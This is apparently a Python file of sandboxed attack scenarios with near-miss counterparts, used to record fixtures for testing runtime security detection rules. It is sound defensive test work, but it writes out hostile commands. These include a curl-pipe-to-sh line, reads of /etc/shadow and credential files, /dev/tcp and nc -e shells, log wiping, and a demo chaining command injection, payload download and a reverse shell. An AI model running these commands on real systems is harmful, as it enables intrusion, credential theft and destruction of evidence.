"""The attack scenarios: one generator function per capture in fixtures/.

A scenario is a generator taking a Sandbox. Code before its `yield` prepares
(copies binaries, starts services) and is not recorded; code after it is the
behaviour the capture holds. The Sandbox undoes everything after recording
stops. Which rules each scenario must fire, and how often, is written in
manifest.yaml next to this file, derived from the rules' conditions.

Processes are spawned directly (no shell in between) unless a shell is part
of the behaviour, so every proc.pname and proc.aname in the capture is
chosen here: the scenario process itself is a child of init.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import threading
import urllib.parse
import urllib.request
from pathlib import Path
from typing import Callable, Iterator

from sandbox import PAYLOADS, PYTHON, ScenarioError, Sandbox

Scenario = Callable[[Sandbox], Iterator[None]]
SCENARIOS: dict[str, Scenario] = {}

SYSCALLS = "syscalls.py"
SHELL = "/bin/dash"  # /bin/sh on Debian; copied under service names
TRUE = "/bin/true"


def scenario(function: Scenario) -> Scenario:
    SCENARIOS[function.__name__] = function
    return function


# --- files ------------------------------------------------------------------

@scenario
def dir_traversal_read(sb: Sandbox) -> Iterator[None]:
    """A web app (not a shell's child) reads /etc/passwd through ../../ in its path."""
    yield
    sb.run(["cat", "/usr/../../etc/passwd"])


@scenario
def dir_traversal_read_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: one ../ only (the rule's glob needs two), then a direct /etc read."""
    yield
    sb.run(["cat", "/usr/../etc/passwd"])
    sb.run(["cat", "/etc/passwd"])


@scenario
def sensitive_read_after_startup(sb: Sandbox) -> Iterator[None]:
    """nginx, running for 6 s, reads /etc/shadow itself (a shell builtin redirect)."""
    nginx = sb.named_copy(SHELL, "nginx")
    yield
    sb.run([nginx, "-c", "sleep 6; read line < /etc/shadow"])


@scenario
def sensitive_read_at_startup(sb: Sandbox) -> Iterator[None]:
    """Near miss of the 'after startup' rule: nginx reads /etc/shadow at once (it is new)."""
    nginx = sb.named_copy(SHELL, "nginx")
    yield
    sb.run([nginx, "-c", "read line < /etc/shadow"])


@scenario
def sensitive_read_untrusted(sb: Sandbox) -> Iterator[None]:
    """cat /etc/shadow."""
    yield
    sb.run(["cat", "/etc/shadow"])


@scenario
def sensitive_read_untrusted_neg(sb: Sandbox) -> Iterator[None]:
    """Near misses: /etc/gshadow (outside Falco's list), and /etc/shadow read by a shell (trusted)."""
    yield
    sb.run(["cat", "/etc/gshadow"])
    sb.run(["sh", "-c", "read line < /etc/shadow"])


@scenario
def search_private_keys(sb: Sandbox) -> Iterator[None]:
    """grep for private key headers."""
    sb.write("keys/deploy.pem", "-----BEGIN RSA PRIVATE KEY-----\nnot a key\n")
    yield
    sb.run(["grep", "-rl", "BEGIN RSA PRIVATE", sb.workdir / "keys"])


@scenario
def search_private_keys_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: grep for certificates, find for *.pem."""
    sb.write("keys/ca.pem", "-----BEGIN CERTIFICATE-----\nnot a cert\n")
    yield
    sb.run(["grep", "-rl", "BEGIN CERTIFICATE", sb.workdir / "keys"])
    sb.run(["find", sb.workdir / "keys", "-name", "*.pem"])


@scenario
def find_aws_credentials(sb: Sandbox) -> Iterator[None]:
    """grep for an AWS secret key name, and find an .aws/credentials file."""
    sb.write("home/.aws/credentials", "[default]\naws_secret_access_key = none\n")
    yield
    sb.run(["grep", "-rl", "aws_secret_access_key", sb.workdir / "home"])
    sb.run(["find", sb.workdir / "home", "-path", "*.aws/credentials"])


@scenario
def find_aws_credentials_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: grep for the AWS region, find the .aws/config file."""
    sb.write("home/.aws/config", "[default]\nregion = eu-west-1\n")
    yield
    sb.run(["grep", "-rl", "region", sb.workdir / "home"])
    sb.run(["find", sb.workdir / "home", "-path", "*.aws/config"])


@scenario
def clear_log(sb: Sandbox) -> Iterator[None]:
    """A shell truncates auth.log (open with O_TRUNC)."""
    log = sb.write("log/auth.log", "Nov 27 sshd[1]: Accepted password for root\n")
    yield
    sb.run(["sh", "-c", f": > {log}"])


@scenario
def clear_log_neg(sb: Sandbox) -> Iterator[None]:
    """Near misses: append to auth.log (no O_TRUNC), truncate auth.log.1 (not a log name)."""
    log = sb.write("log/auth.log", "line\n")
    rotated = sb.write("log/auth.log.1", "line\n")
    yield
    sb.run(["sh", "-c", f": >> {log}"])
    sb.run(["sh", "-c", f": > {rotated}"])


@scenario
def bulk_data_removal(sb: Sandbox) -> Iterator[None]:
    """shred -u a file."""
    data = sb.write("data/customers.db", "x" * 4096)
    yield
    sb.run(["shred", "-u", data])


@scenario
def bulk_data_removal_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: the same file removed with rm."""
    data = sb.write("data/customers.db", "x" * 4096)
    yield
    sb.run(["rm", "-f", data])


@scenario
def symlink_sensitive(sb: Sandbox) -> Iterator[None]:
    """ln -s /etc/shadow, and a symlink to /root."""
    yield
    sb.run(["ln", "-s", "/etc/shadow", sb.workdir / "shadow"])
    sb.run(["ln", "-s", "/root", sb.workdir / "roothome"])


@scenario
def symlink_sensitive_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: symlinks to /etc/hostname and /root/.bashrc."""
    yield
    sb.run(["ln", "-s", "/etc/hostname", sb.workdir / "hostname"])
    sb.run(["ln", "-s", "/root/.bashrc", sb.workdir / "bashrc"])


@scenario
def hardlink_sensitive(sb: Sandbox) -> Iterator[None]:
    """ln /etc/shadow (the link may fail across filesystems: the attempt is the event)."""
    yield
    sb.run(["ln", "/etc/shadow", sb.workdir / "shadow"], check=False)


@scenario
def hardlink_sensitive_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: a hard link to /etc/hostname."""
    yield
    sb.run(["ln", "/etc/hostname", sb.workdir / "hostname"], check=False)


@scenario
def exec_from_dev_shm(sb: Sandbox) -> Iterator[None]:
    """Run a binary dropped in /dev/shm."""
    dropped = sb.remove_later(Path(f"/dev/shm/.trace-scn-{os.getpid()}"))
    shutil.copy2(TRUE, dropped)
    yield
    sb.run([dropped])


@scenario
def exec_from_dev_shm_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: the file in /dev/shm is read, not executed."""
    dropped = sb.remove_later(Path(f"/dev/shm/.trace-scn-{os.getpid()}"))
    shutil.copy2(TRUE, dropped)
    yield
    sb.run(["cat", dropped])


# --- processes ----------------------------------------------------------------

@scenario
def shell_from_web_server(sb: Sandbox) -> Iterator[None]:
    """nginx spawns sh -c id (command injection)."""
    nginx = sb.named_copy(SHELL, "nginx")
    yield
    sb.run([nginx, "-c", "sh -c id; true"])


@scenario
def shell_from_web_server_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: nginx spawns a known-benign command line (`sh -c whoami`)."""
    nginx = sb.named_copy(SHELL, "nginx")
    yield
    sb.run([nginx, "-c", "sh -c whoami; true"])


@scenario
def system_user_interactive(sb: Sandbox) -> Iterator[None]:
    """Under an sshd session, www-data runs a command."""
    sshd = sb.named_copy(SHELL, "sshd")
    yield
    sb.run([sshd, "-c", "setpriv --reuid=www-data --regid=www-data --clear-groups id; true"])


@scenario
def system_user_interactive_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: www-data runs the same command under cron, not an ssh session."""
    cron = sb.named_copy(SHELL, "cron")
    yield
    sb.run([cron, "-c", "setpriv --reuid=www-data --regid=www-data --clear-groups id; true"])


@scenario
def ptrace_attach(sb: Sandbox) -> Iterator[None]:
    """PTRACE_ATTACH to another process."""
    yield
    sb.run(sb.payload(SYSCALLS) + ["ptrace-attach"])


@scenario
def ptrace_traceme(sb: Sandbox) -> Iterator[None]:
    """PTRACE_TRACEME: a program guarding itself against debuggers."""
    yield
    sb.run(sb.payload(SYSCALLS) + ["ptrace-traceme"])


@scenario
def ptrace_peek_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss of both ptrace rules: PTRACE_PEEKDATA on a process not traced."""
    yield
    sb.run(sb.payload(SYSCALLS) + ["ptrace-peek"])


@scenario
def memfd_exec(sb: Sandbox) -> Iterator[None]:
    """A program copies a binary into a memfd and executes it from there."""
    yield
    sb.run(sb.payload(SYSCALLS) + ["memfd-exec", TRUE, "kworker"])


@scenario
def memfd_exec_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: the same fileless exec below runc (runc re-executes itself from a memfd)."""
    runc = sb.named_copy(SHELL, "runc")
    yield
    command = " ".join(sb.payload(SYSCALLS) + ["memfd-exec", TRUE, "runc-init"])
    sb.run([runc, "-c", f"{command}; true"])


@scenario
def ssh_non_standard_port(sb: Sandbox) -> Iterator[None]:
    """ssh to a public-looking address on port 443 (held by lo in a private netns)."""
    yield
    sb.run(["unshare", "--net", "sh", "-c", ssh_in_netns(port=443)])


@scenario
def ssh_non_standard_port_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: the same ssh on port 22."""
    yield
    sb.run(["unshare", "--net", "sh", "-c", ssh_in_netns(port=22)])


def ssh_in_netns(port: int) -> str:
    """Shell script: a TEST-NET-2 address on the netns's own lo, a listener on it, one ssh.

    The namespace has no route out: the connection never leaves the machine.
    """
    address = "198.51.100.7"
    listener = (f"import socket; s=socket.create_server(('{address}', {port})); print(flush=True); "
                "c, _ = s.accept(); c.close()")
    return (
        f"set -e; /usr/sbin/ip link set lo up; /usr/sbin/ip addr add {address}/32 dev lo; "
        f"{PYTHON} -I -c \"{listener}\" | (read ready; "
        f"ssh -p {port} -o BatchMode=yes -o ConnectTimeout=5 -o StrictHostKeyChecking=no "
        f"-o UserKnownHostsFile=/dev/null -o IdentitiesOnly=yes -o IdentityFile=/dev/null -F /dev/null "
        f"probe@{address} true || true)"
    )


@scenario
def sensitive_read_by_package_manager_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss of the default rule: cat /etc/shadow run by dpkg (a maintainer script)."""
    dpkg = sb.named_copy(SHELL, "dpkg")
    yield
    sb.run([dpkg, "-c", "cat /etc/shadow > /dev/null; true"])


@scenario
def shell_from_cron_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: cron (not a network service) spawns sh -c id."""
    cron = sb.named_copy(SHELL, "cron")
    yield
    sb.run([cron, "-c", "sh -c id; true"])


@scenario
def shell_dev_tcp(sb: Sandbox) -> Iterator[None]:
    """bash opens a TCP connection itself (/dev/tcp), as reverse shells do."""
    host, port = sb.tcp_listener()
    yield
    sb.run(["bash", "-c", f"exec 3<>/dev/tcp/{host}/{port}"])


@scenario
def shell_dev_tcp_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: the same connection made by curl, not by a shell."""
    host, port = sb.tcp_listener(reply=b"HTTP/1.0 204 No Content\r\n\r\n")
    yield
    sb.run(["curl", "-s", "-o", "/dev/null", f"http://{host}:{port}/"])


@scenario
def write_below_binary_dir(sb: Sandbox) -> Iterator[None]:
    """A binary planted in /usr/local/bin."""
    implant = sb.remove_later(Path(f"/usr/local/bin/trace-scn-{os.getpid()}"))
    yield
    sb.run(["cp", TRUE, implant])


@scenario
def write_below_binary_dir_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: the same copy made by a package manager's maintainer script."""
    implant = sb.remove_later(Path(f"/usr/local/bin/trace-scn-{os.getpid()}"))
    dpkg = sb.named_copy(SHELL, "dpkg")
    yield
    sb.run([dpkg, "-c", f"cp {TRUE} {implant}; true"])


@scenario
def cron_job_written(sb: Sandbox) -> Iterator[None]:
    """A shell writes a job into /etc/cron.d."""
    job = sb.remove_later(Path(f"/etc/cron.d/trace-scn-{os.getpid()}"))
    yield
    sb.run(["sh", "-c", f"echo '* * * * * root true' > {job}"])


@scenario
def cron_job_by_package_manager_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: the same cron file written by dpkg."""
    job = sb.remove_later(Path(f"/etc/cron.d/trace-scn-{os.getpid()}"))
    dpkg = sb.named_copy(SHELL, "dpkg")
    yield
    sb.run([dpkg, "-c", f"echo '* * * * * root true' > {job}; true"])


@scenario
def systemd_unit_written(sb: Sandbox) -> Iterator[None]:
    """A service unit dropped into /etc/systemd/system (never enabled nor loaded)."""
    unit = sb.remove_later(Path(f"/etc/systemd/system/trace-scn-{os.getpid()}.service"))
    yield
    sb.run(["sh", "-c", f"printf '[Service]\\nExecStart=/bin/true\\n' > {unit}"])


@scenario
def systemd_unit_by_package_manager_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: the same unit written by dpkg."""
    unit = sb.remove_later(Path(f"/etc/systemd/system/trace-scn-{os.getpid()}.service"))
    dpkg = sb.named_copy(SHELL, "dpkg")
    yield
    sb.run([dpkg, "-c", f"printf '[Service]\\nExecStart=/bin/true\\n' > {unit}; true"])


@scenario
def write_below_etc(sb: Sandbox) -> Iterator[None]:
    """A shell writes a new file under /etc."""
    conf = sb.remove_later(Path(f"/etc/trace-scn-{os.getpid()}.conf"))
    yield
    sb.run(["sh", "-c", f"echo 'nameserver 203.0.113.9' > {conf}"])


@scenario
def write_below_etc_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: the same write by resolvconf, which rewrites /etc for a living."""
    conf = sb.remove_later(Path(f"/etc/trace-scn-{os.getpid()}.conf"))
    resolvconf = sb.named_copy(SHELL, "resolvconf")
    yield
    sb.run([resolvconf, "-c", f"echo 'nameserver 203.0.113.9' > {conf}"])


@scenario
def shell_rc_modified(sb: Sandbox) -> Iterator[None]:
    """A line appended to a user's .bashrc."""
    rc = sb.write("home/.bashrc", "alias ll='ls -l'\n")
    yield
    sb.run(["sh", "-c", f"echo 'curl -s http://203.0.113.9/x | sh' >> {rc}"])


@scenario
def shell_rc_modified_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: the same line appended to a backup, .bashrc.orig."""
    rc = sb.write("home/.bashrc.orig", "alias ll='ls -l'\n")
    yield
    sb.run(["sh", "-c", f"echo 'curl -s http://203.0.113.9/x | sh' >> {rc}"])


@scenario
def authorized_keys_modified(sb: Sandbox) -> Iterator[None]:
    """An SSH key appended to authorized_keys."""
    keys = sb.write("home/.ssh/authorized_keys", "")
    yield
    sb.run(["sh", "-c", f"echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttacker' >> {keys}"])


@scenario
def authorized_keys_modified_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: a host key appended to known_hosts."""
    known = sb.write("home/.ssh/known_hosts", "")
    yield
    sb.run(["sh", "-c", f"echo '203.0.113.9 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHost' >> {known}"])


@scenario
def setuid_root_after_login(sb: Sandbox) -> Iterator[None]:
    """A process of login uid 1000 goes back to euid 0 with setuid(0)."""
    yield
    sb.run(sb.payload(SYSCALLS) + ["login-as", "1000", "regain-root"])


@scenario
def setuid_root_without_login_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: the same setuid(0) by a process with no login uid (a daemon)."""
    yield
    sb.run(sb.payload(SYSCALLS) + ["regain-root"])


@scenario
def bpf_program_loaded(sb: Sandbox) -> Iterator[None]:
    """bpf(BPF_PROG_LOAD) of a trivial socket filter."""
    yield
    sb.run(sb.payload(SYSCALLS) + ["bpf-prog-load"])


@scenario
def bpf_map_created_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: bpf(BPF_MAP_CREATE), no program."""
    yield
    sb.run(sb.payload(SYSCALLS) + ["bpf-map-create"])


@scenario
def memfd_written_not_executed_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: a memfd filled with a binary, but the binary runs from disk."""
    yield
    sb.run(sb.payload(SYSCALLS) + ["memfd-then-exec", TRUE])


@scenario
def download_to_opt_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss of the demo's staging: curl downloads into /opt and chmod +x there."""
    served = sb.write("www/tool", "#!/bin/sh\n")
    port = sb.http_server(served.parent)
    target = sb.path("installed", "tool")
    yield
    sb.run(["curl", "-s", "-o", target, f"http://127.0.0.1:{port}/tool"])
    sb.run(["chmod", "+x", target])


@scenario
def var_log_wiped(sb: Sandbox) -> Iterator[None]:
    """A log under /var/log truncated, another one deleted."""
    truncated = sb.remove_later(Path(f"/var/log/trace-scn-{os.getpid()}-a.log"))
    deleted = sb.remove_later(Path(f"/var/log/trace-scn-{os.getpid()}-b.log"))
    for log in (truncated, deleted):
        log.write_text("Nov 27 sshd[1]: Accepted password for root\n")
    yield
    sb.run(["sh", "-c", f": > {truncated}"])
    sb.run(["rm", "-f", deleted])


@scenario
def var_log_rotated_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: logrotate truncates the log (copytruncate)."""
    log = sb.remove_later(Path(f"/var/log/trace-scn-{os.getpid()}-a.log"))
    log.write_text("Nov 27 sshd[1]: Accepted password for root\n")
    logrotate = sb.named_copy(SHELL, "logrotate")
    yield
    sb.run([logrotate, "-c", f": > {log}"])


@scenario
def shell_history_deleted(sb: Sandbox) -> Iterator[None]:
    """rm ~/.bash_history."""
    history = sb.write("home/.bash_history", "cat /etc/shadow\n")
    yield
    sb.run(["rm", "-f", history])


@scenario
def shell_history_deleted_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: rm ~/.bash_logout."""
    logout = sb.write("home/.bash_logout", "clear\n")
    yield
    sb.run(["rm", "-f", logout])


# --- containers ---------------------------------------------------------------

@scenario
def terminal_shell_in_container(sb: Sandbox) -> Iterator[None]:
    """`docker exec -it`: runc starts a shell with a terminal in a container."""
    container = sb.container()
    yield
    container.run(["sh", "-c", "id; true"], tty=True)


@scenario
def terminal_shell_in_container_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: the same shell in the container without a terminal."""
    container = sb.container()
    yield
    container.run(["sh", "-c", "id; true"])


@scenario
def netcat_in_container(sb: Sandbox) -> Iterator[None]:
    """nc -e /bin/sh in a container (the image's nc; here a stand-in binary named nc)."""
    container = sb.container()
    nc = sb.named_copy(TRUE, "nc")
    yield
    container.run([nc, "-e", "/bin/sh", "127.0.0.1", "4444"])


@scenario
def netcat_in_container_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: nc -z (a port probe) in a container."""
    container = sb.container()
    nc = sb.named_copy(TRUE, "nc")
    yield
    container.run([nc, "-z", "127.0.0.1", "4444"])


@scenario
def packet_socket_in_container(sb: Sandbox) -> Iterator[None]:
    """socket(AF_PACKET) in a container."""
    container = sb.container()
    yield
    container.run(sb.payload(SYSCALLS) + ["packet-socket"])


@scenario
def packet_socket_on_host_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: the same packet socket on the host."""
    yield
    sb.run(sb.payload(SYSCALLS) + ["packet-socket"])


@scenario
def stdio_to_socket_in_container(sb: Sandbox) -> Iterator[None]:
    """A reverse shell's first step in a container: dup2(socket, 0) and (socket, 1)."""
    container = sb.container()
    host, port = sb.tcp_listener()
    yield
    container.run(sb.payload(SYSCALLS) + ["dup-socket", host, str(port), "0", "1"])


@scenario
def stdio_to_socket_in_container_neg(sb: Sandbox) -> Iterator[None]:
    """Near misses in a container: the socket onto fd 5, a file onto fd 0."""
    container = sb.container()
    host, port = sb.tcp_listener()
    yield
    container.run(sb.payload(SYSCALLS) + ["dup-socket", host, str(port), "5"])
    container.run(sb.payload(SYSCALLS) + ["dup-file", "/etc/hostname", "0"])


@scenario
def kernel_module_in_container(sb: Sandbox) -> Iterator[None]:
    """finit_module() of a bogus image from a container (fails: nothing loads)."""
    container = sb.container()
    image = sb.write("rootkit.ko", "not an ELF module\n")
    yield
    container.run(sb.payload(SYSCALLS) + ["finit-module", str(image)])


@scenario
def kernel_module_on_host_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: the same finit_module() on the host."""
    image = sb.write("rootkit.ko", "not an ELF module\n")
    yield
    sb.run(sb.payload(SYSCALLS) + ["finit-module", str(image)])


@scenario
def release_agent_in_container(sb: Sandbox) -> Iterator[None]:
    """root with CAP_SYS_ADMIN in a container writes a file named release_agent."""
    container = sb.container()
    target = sb.path("cgroup", "release_agent")
    yield
    container.run(["sh", "-c", f"echo /tmp/x > {target}"])


@scenario
def release_agent_in_container_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: the sibling notify_on_release file."""
    container = sb.container()
    target = sb.path("cgroup", "notify_on_release")
    yield
    container.run(["sh", "-c", f"echo 1 > {target}"])


@scenario
def drop_and_execute_in_container(sb: Sandbox) -> Iterator[None]:
    """A binary written into a container's overlayfs upper layer, then executed."""
    container = sb.container()
    layers = overlay_dirs(sb)
    yield
    container.run(["sh", "-c", overlay_script(layers, "cp /bin/true {merged}/dropped && {merged}/dropped")])


@scenario
def drop_and_execute_in_container_neg(sb: Sandbox) -> Iterator[None]:
    """Near miss: a binary of the image (overlayfs lower layer) executed."""
    container = sb.container()
    layers = overlay_dirs(sb)
    yield
    container.run(["sh", "-c", overlay_script(layers, "{merged}/imagetool")])


def overlay_dirs(sb: Sandbox) -> dict[str, Path]:
    layers = {name: sb.path("overlay", name, ".keep").parent for name in ("lower", "upper", "work", "merged")}
    shutil.copy2(TRUE, layers["lower"] / "imagetool")
    return layers


def overlay_script(layers: dict[str, Path], then: str) -> str:
    return (f"mount -t overlay overlay -o lowerdir={layers['lower']},upperdir={layers['upper']},"
            f"workdir={layers['work']} {layers['merged']} && " + then.format(merged=layers["merged"]))


# --- the demo -------------------------------------------------------------------

@scenario
def demo(sb: Sandbox) -> Iterator[None]:
    """A web service in a container is exploited through command injection.

    The attacker's injected shell reads /etc/shadow, fetches a payload from
    an HTTP server with curl into /tmp, makes it executable and runs it. The
    payload connects back to the attacker, dups the socket onto stdin and
    stdout and becomes an interactive shell; through it the attacker writes a
    cron job under /etc/cron.d, empties the service's access_log and shreds
    the payload. Around the incident,
    health checks hit the service and a host job runs routine commands.
    """
    cron_file = Path("/etc/cron.d/dbus-update")
    if cron_file.exists():
        raise ScenarioError(f"{cron_file} exists: refusing to overwrite it")
    sb.remove_later(cron_file)
    container = sb.container()
    httpd = sb.named_copy(os.path.realpath(PYTHON), "httpd")
    drop_dir = sb.path("drop", "payload").parent  # what the attacker's HTTP server serves
    shutil.copy2(PAYLOADS / "demo_payload.py", drop_dir / "dbus-helper")
    payload_port = sb.http_server(drop_dir)
    port_file = sb.path("run", "httpd.port")
    access_log = sb.path("logs", "access_log")
    service = container.spawn([httpd, "-I", str(PAYLOADS / "demo_service.py"), str(port_file), str(access_log)])
    sb.on_cleanup(service.kill)
    service_port = wait_for_port(port_file, service)
    attacker = ReverseShellListener(
        commands=[
            f"echo '*/5 * * * * root {{payload}} 127.0.0.1 {{port}}' > {cron_file}",
            ": > {access_log}",
            "shred -u {payload}",
            "exit",
        ],
    )
    sb.on_cleanup(attacker.close)
    service_url = f"http://127.0.0.1:{service_port}"
    yield

    routine = subprocess.Popen(["sh", "-c", "for i in 1 2 3 4 5; do uptime; ls /var/log; sleep 0.2; done"],
                               stdout=subprocess.DEVNULL)
    for _ in range(3):
        http_get(f"{service_url}/health")
    http_get(f"{service_url}/status")
    staging = "/tmp/.dbus-" + sb.workdir.name[-6:]
    sb.remove_later(Path(staging) / "dbus-helper")
    sb.on_cleanup(lambda: shutil.rmtree(staging, ignore_errors=True))
    payload = f"{staging}/dbus-helper"
    attacker.render(payload=payload, port=attacker.port, access_log=access_log)
    injected = (f"127.0.0.1; cat /etc/shadow > /dev/null; mkdir -p {staging}; "
                f"curl -s -o {payload} http://127.0.0.1:{payload_port}/dbus-helper; "
                f"chmod +x {payload}; {payload} 127.0.0.1 {attacker.port}")
    http_get(f"{service_url}/lookup?" + urllib.parse.urlencode({"host": injected}))
    attacker.wait()
    for _ in range(2):
        http_get(f"{service_url}/health")
    if routine.wait(timeout=30) != 0:
        raise ScenarioError("the routine host job failed")
    if not cron_file.exists() or Path(payload).exists() or "lookup" in access_log.read_text():
        raise ScenarioError("the attack did not run to the end (no cron file, payload or log left)")


def wait_for_port(port_file: Path, process: subprocess.Popen) -> int:
    for _ in range(200):
        if port_file.exists() and port_file.read_text().strip():
            return int(port_file.read_text())
        if process.poll() is not None:
            raise ScenarioError(f"the service exited with {process.returncode}")
        threading.Event().wait(0.05)
    raise ScenarioError("the service did not start listening")


def http_get(url: str) -> bytes:
    with urllib.request.urlopen(url, timeout=30) as response:
        return response.read()


class ReverseShellListener:
    """The attacker's end of the reverse shell: sends commands, reads until EOF."""

    def __init__(self, commands: list[str]):
        self._server = socket.create_server(("127.0.0.1", 0))
        self.port = self._server.getsockname()[1]
        self._commands = commands
        self._script = b""
        self._done = threading.Event()
        self._error: str | None = None
        threading.Thread(target=self._serve, daemon=True).start()

    def render(self, **values) -> None:
        self._script = "".join(c.format(**values) + "\n" for c in self._commands).encode()

    def _serve(self) -> None:
        try:
            self._server.settimeout(60)
            conn, _ = self._server.accept()
            with conn:
                conn.settimeout(30)
                conn.sendall(self._script)
                while conn.recv(4096):
                    pass
        except OSError as exc:
            self._error = str(exc)
        finally:
            self._done.set()

    def wait(self) -> None:
        if not self._done.wait(60) or self._error:
            raise ScenarioError(f"the reverse shell never completed: {self._error or 'timeout'}")

    def close(self) -> None:
        self._server.close()
